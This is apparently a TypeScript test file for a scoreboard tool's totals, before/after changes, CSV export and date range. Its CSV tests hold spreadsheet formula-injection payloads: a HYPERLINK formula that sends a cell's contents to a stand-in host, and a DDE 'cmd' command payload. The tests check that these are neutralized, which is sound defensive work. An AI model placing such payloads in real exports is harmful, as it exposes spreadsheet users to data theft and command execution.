// A scoreboard's Total row, its before/after change, its CSV and the range it opens with, against figures
// computed by hand from the handoff's grading table (Jan 24-28: graded, MAE, bias, accuracy per date).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Cell, QueryTable } from '../../src/core/jobs/bigquery';
import { csvField, formulaSafe, scoreboardCsv } from '../../src/core/jobs/csv';
import { scoreboardRange } from '../../src/core/jobs/dates';
import { compareScoreboards } from '../../src/core/jobs/scoreboardChange';
import { formatQueryTable, totalsTexts, type ShownTable } from '../../src/core/jobs/table';
import { computeTotals, scoreboardOf, type Scoreboard } from '../../src/core/jobs/totals';

const HANDOFF: QueryTable = {
  columns: ['game_date', 'graded', 'mae', 'bias', 'accuracy', 'decided'],
  rows: [
    ['2026-01-24', 22, 4.52, 0.16, 40.0, 20],
    ['2026-01-25', 99, 5.45, 1.14, 58.9, 90],
    ['2026-01-26', 118, 5.59, 0.23, 55.3, 103],
    ['2026-01-27', 105, 6.12, 0.19, 45.9, 98],
    ['2026-01-28', 145, 5.55, -0.15, 45.0, 140],
  ],
};

function board(columns: string[], rows: Cell[][], totals: Cell[] | null = null): Scoreboard {
  return { columns, rows, totals, totalsSource: totals ? 'query' : null, totalsProblems: [] };
}

describe('scoreboard totals', () => {
  it('weights each day by its count: 489 graded, MAE 5.62, bias 0.29, where averaging the days gives 5.45 and 0.31', () => {
    const { totals, problems } = computeTotals(HANDOFF, { graded: 'sum', mae: { weightedBy: 'graded' }, bias: { weightedBy: 'graded' }, accuracy: { weightedBy: 'decided' }, decided: 'sum' });
    assert.deepEqual(problems, []);
    assert.equal(totals[0], 'Total');
    assert.equal(totals[1], 22 + 99 + 118 + 105 + 145); // 489
    // 22·4.52 + 99·5.45 + 118·5.59 + 105·6.12 + 145·5.55 = 99.44 + 539.55 + 659.62 + 642.6 + 804.75 = 2745.96
    assert.ok(Math.abs((totals[2] as number) - 2745.96 / 489) < 1e-9);
    // 3.52 + 112.86 + 27.14 + 19.95 − 21.75 = 141.72
    assert.ok(Math.abs((totals[3] as number) - 141.72 / 489) < 1e-9);
    // Accuracy is over the decided calls: 20·40 + 90·58.9 + 103·55.3 + 98·45.9 + 140·45 = 22595.1 over 451
    assert.ok(Math.abs((totals[4] as number) - 22595.1 / 451) < 1e-9);
    assert.deepEqual(totalsTexts(HANDOFF, totals), ['Total', '489', '5.62', '0.29', '50.1', '451']);
  });

  it('weighted by the wrong count a mean is off: accuracy weighted by graded reads 50.3, not 50.1', () => {
    const { totals } = computeTotals(HANDOFF, { accuracy: { weightedBy: 'graded' } });
    // 22·40 + 99·58.9 + 118·55.3 + 105·45.9 + 145·45 = 24581 over 489 = 50.27
    assert.equal(totalsTexts(HANDOFF, totals)[4], '50.3');
    assert.deepEqual(totalsTexts(HANDOFF, totals).slice(1, 4), ['-', '-', '-'], 'columns without a rule stay empty');
  });

  it('min and max; NULL cells are left out; problems name the column', () => {
    const table: QueryTable = { columns: ['d', 'n', 'v', 'note'], rows: [['a', 2, 1.5, 'x'], ['b', null, 3.25, 'y'], ['c', 4, null, null]] };
    const { totals, problems } = computeTotals(table, { n: 'max', v: 'min', note: 'sum', missing: 'sum', d: 'sum' });
    assert.deepEqual(totals, ['Total', 4, 1.5, null]);
    assert.deepEqual(problems, [
      'note: the column holds values that are not numbers',
      'missing: the query returns no such column (columns: d, n, v, note)',
      'd: the first column labels the rows; it holds "Total" in the totals row',
    ]);
    assert.deepEqual(computeTotals(table, { v: { weightedBy: 'nope' } }).problems, ['v: weightedBy names "nope", which the query does not return (columns: d, n, v, note)']);
  });

  it('totals NUMERIC and BIGNUMERIC columns (numbers as text) exactly; a mean takes them as numbers', () => {
    // As BigQuery's client hands them over: NUMERIC and BIGNUMERIC as text, beyond a number's 15 digits.
    const table: QueryTable = {
      columns: ['d', 'stake', 'edge', 'n'],
      rows: [
        ['a', '12345678901234567890.123456789', '0.1', 3],
        ['b', '0.000000001', '0.2', 1],
        ['c', null, '-1.5e-7', 4],
      ],
    };
    const { totals, problems } = computeTotals(table, { stake: 'sum', edge: 'sum', n: 'sum' });
    assert.deepEqual(problems, []);
    assert.deepEqual(totals, ['Total', '12345678901234567890.123456790', '0.29999985', 8]);
    // In JavaScript numbers the sum reads 12345678901234567000.
    assert.deepEqual(totalsTexts(table, totals).slice(1, 3), ['12345678901234567890.123456790', '0.29999985']);
    assert.deepEqual(computeTotals(table, { stake: 'max', edge: 'min' }).totals.slice(1, 3), ['12345678901234567890.123456789', '-1.5e-7']);
    assert.deepEqual(computeTotals({ columns: ['d', 'v'], rows: [['a', '2.5'], ['b', 10], ['c', '-0.5']] }, { v: 'sum' }).totals, ['Total', '12.0']);
    const mean = computeTotals(table, { edge: { weightedBy: 'n' } }).totals[2] as number;
    assert.ok(Math.abs(mean - (0.1 * 3 + 0.2 * 1 - 1.5e-7 * 4) / 8) < 1e-12);
    assert.deepEqual(computeTotals({ columns: ['d', 'v'], rows: [['a', '2.5'], ['b', '1,5']] }, { v: 'sum' }).problems, ['v: the column holds values that are not numbers']);
  });

  it('takes a ROLLUP query’s NULL row out of the rows as the Total row; rules apply only without ROLLUP', () => {
    const table: QueryTable = { columns: ['game_date', 'graded'], rows: [[null, 121], ['2026-01-24', 22], ['2026-01-25', 99]] };
    const rolled = scoreboardOf(table, 'SELECT game_date, COUNT(*) AS graded FROM t GROUP BY\n ROLLUP (game_date) ORDER BY game_date', { graded: 'max' });
    assert.deepEqual([rolled.rows, rolled.totals, rolled.totalsSource], [[['2026-01-24', 22], ['2026-01-25', 99]], ['Total', 121], 'query']);
    const plain = scoreboardOf({ columns: ['d', 'n'], rows: [['a', 1], ['b', 2]] }, 'SELECT d, n FROM t', { n: 'sum' });
    assert.deepEqual([plain.totals, plain.totalsSource], [['Total', 3], 'config']);
    assert.equal(scoreboardOf({ columns: ['d', 'n'], rows: [['a', 1]] }, 'SELECT d, n FROM t').totals, null);
  });

  it('prints the Total row under a rule in the CLI table', () => {
    const text = formatQueryTable({ columns: ['game_date', 'graded', 'mae'], rows: [['2026-01-24', 22, 4.52], ['2026-01-25', 99, 5.45]], totals: ['Total', 121, 638.99 / 121] });
    assert.equal(text, ['game_date   graded   mae', '----------  ------  ----', '2026-01-24      22  4.52', '2026-01-25      99  5.45', '----------  ------  ----', 'Total          121  5.28'].join('\n'));
  });
});

describe('scoreboard before and after a run', () => {
  it('matches rows by date and gives after − before per column and in the totals', () => {
    const columns = ['game_date', 'graded', 'mae', 'accuracy'];
    // Before: Jan 24 graded on old code, Jan 26 not yet; Jan 23 only before (deleted by the run).
    const before = board(columns, [['2026-01-23', 10, 5, 50], ['2026-01-24', 20, 4.7, 35.5], ['2026-01-25', 99, 5.45, 58.9]], ['Total', 129, 5.29, 53.1]);
    const after = board(columns, [['2026-01-24', 22, 4.52, 40], ['2026-01-25', 99, 5.45, 58.9], ['2026-01-26', 118, 5.59, 55.3]], ['Total', 239, 5.41, 55.1]);
    const change = compareScoreboards(before, after);
    assert.deepEqual(change.columns, columns);
    assert.deepEqual(
      change.rows.map((row) => [row.key, row.change]),
      [
        ['2026-01-23', [null, null, null, null]],
        ['2026-01-24', [null, 2, -0.18, 4.5]], // 22 − 20, 4.52 − 4.70, 40 − 35.5
        ['2026-01-25', [null, 0, 0, 0]],
        ['2026-01-26', [null, null, null, null]],
      ],
    );
    assert.deepEqual([change.rows[0]!.after, change.rows[3]!.before], [null, null]);
    assert.deepEqual(change.totals!.change, [null, 110, 0.12, 2]); // 239 − 129, 5.41 − 5.29, 55.1 − 53.1
  });

  it('gives after − before for NUMERIC and BIGNUMERIC columns (numbers as text), subtracted exactly', () => {
    const columns = ['game_date', 'stake', 'edge'];
    const before = board(columns, [['2026-01-24', '12345678901234567890.25', '0.10'], ['2026-01-25', 'n/a', 0.2]]);
    const after = board(columns, [['2026-01-24', '12345678901234567890.5', 0.3], ['2026-01-25', '7', '0.25']]);
    // In JavaScript numbers the first stake difference reads 0: both sides are 12345678901234567000.
    assert.deepEqual(
      compareScoreboards(before, after).rows.map((row) => row.change),
      [
        [null, 0.25, 0.2],
        [null, null, 0.05],
      ],
    );
  });

  it('aligns a before read with other columns by name', () => {
    const change = compareScoreboards(board(['d', 'b', 'a'], [['x', 1, 10]]), board(['d', 'a', 'c'], [['x', 12, 3]]));
    assert.deepEqual(change.rows[0]!.before, ['x', 10, null]);
    assert.deepEqual(change.rows[0]!.change, [null, 2, null]);
  });
});

describe('scoreboard CSV', () => {
  it('quotes commas, quotes, line breaks and edge spaces; NULL is empty; the Total row is last', () => {
    assert.deepEqual(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\r', ' lead', 'trail ', '=1+1', ''].map(csvField), ['plain', '"a,b"', '"say ""hi"""', '"two\nlines"', '"cr\r"', '" lead"', '"trail "', '=1+1', '']);
    const csv = scoreboardCsv({ columns: ['player, team', 'points', 'note'], rows: [['o"neil', 22, null], ['smith', 4.5, 'x\ny']], totals: ['Total', 26.5, null] });
    assert.equal(csv, '"player, team",points,note\r\n"o""neil",22,\r\nsmith,4.5,"x\ny"\r\nTotal,26.5,\r\n');
    assert.equal(scoreboardCsv({ columns: ['a'], rows: [[1]] }, '\n'), 'a\n1\n');
  });

  it('neutralizes text a spreadsheet would open as a formula with a leading quote; numbers, negative ones and those sent as text, stay as they are', () => {
    const table = {
      columns: ['player', 'note', 'points', 'bias', 'numeric_bias'],
      rows: [
        ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', 22, -0.29, '-0.29'],
        ['@SUM(A1:A9)', '-2+3', -4, -1.5, '-12345678901234567890'],
        ['\tTAB', '\rCR', 0, 0, '1e+21'],
        ['o-neil', '-', 1, 1, '-'],
      ],
      totals: ['=Total', '-', 19, -1.79, '-0.3'],
    } satisfies ShownTable;
    const lines = scoreboardCsv(table, '\n').split('\n');
    assert.deepEqual(lines, [
      'player,note,points,bias,numeric_bias',
      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+cmd|' /C calc'!A0,22,-0.29,-0.29`,
      "'@SUM(A1:A9),'-2+3,-4,-1.5,-12345678901234567890",
      "'\tTAB,\"'\rCR\",0,0,1e+21",
      "o-neil,'-,1,1,'-",
      "'=Total,'-,19,-1.79,-0.3",
      '',
    ]);
    // One cell at a time: only text is ever prefixed, and only when it starts a formula and is not a plain number.
    assert.deepEqual(
      (['-0.29', '-7', '-.5', '-1e-7', '-1E+5', '12', '=1', '+1', '-1-1', '--1', '-1.2.3', '-0x10', '-Infinity', '@x', 'a=b', ''] as const).map((text) => formulaSafe(text, text)),
      ['-0.29', '-7', '-.5', '-1e-7', '-1E+5', '12', "'=1", "'+1", "'-1-1", "'--1", "'-1.2.3", "'-0x10", "'-Infinity", "'@x", 'a=b', ''],
    );
    assert.equal(formulaSafe(-0.29, '-0.29'), '-0.29');
    assert.equal(formulaSafe(-Infinity, '-Infinity'), '-Infinity', 'a FLOAT64 number is a number, whatever its text');
  });

  it('writes a computed total with its column’s decimals', () => {
    assert.equal(scoreboardCsv({ columns: ['d', 'mae'], rows: [['a', 4.52], ['b', 5.45]], totals: ['Total', 638.99 / 121] }), 'd,mae\r\na,4.52\r\nb,5.45\r\nTotal,5.28\r\n');
  });
});

describe('the range a scoreboard opens with', () => {
  const today = '2026-12-06';
  it('is the last run’s, else the last picked, else the configured, else the 7 days ending today', () => {
    const jan = { start: '2026-01-24', end: '2026-01-28' };
    const feb = { start: '2026-02-01', end: '2026-02-02' };
    assert.deepEqual(scoreboardRange({ lastRun: feb, remembered: jan, configured: jan }, today), { ...feb, days: 2 });
    assert.deepEqual(scoreboardRange({ remembered: feb, configured: jan }, today), { ...feb, days: 2 });
    assert.deepEqual(scoreboardRange({ configured: jan }, today), { ...jan, days: 5 });
    assert.deepEqual(scoreboardRange({}, today), { start: '2026-11-30', end: today, days: 7 });
  });
  it('passes over a remembered range that is no longer valid', () => {
    assert.deepEqual(scoreboardRange({ remembered: { start: '2026-13-01', end: '2026-01-02' }, configured: { start: '2026-01-24', end: '2026-12-31' } }, '2026-12-06'), { start: '2026-11-30', end: '2026-12-06', days: 7 });
  });
});
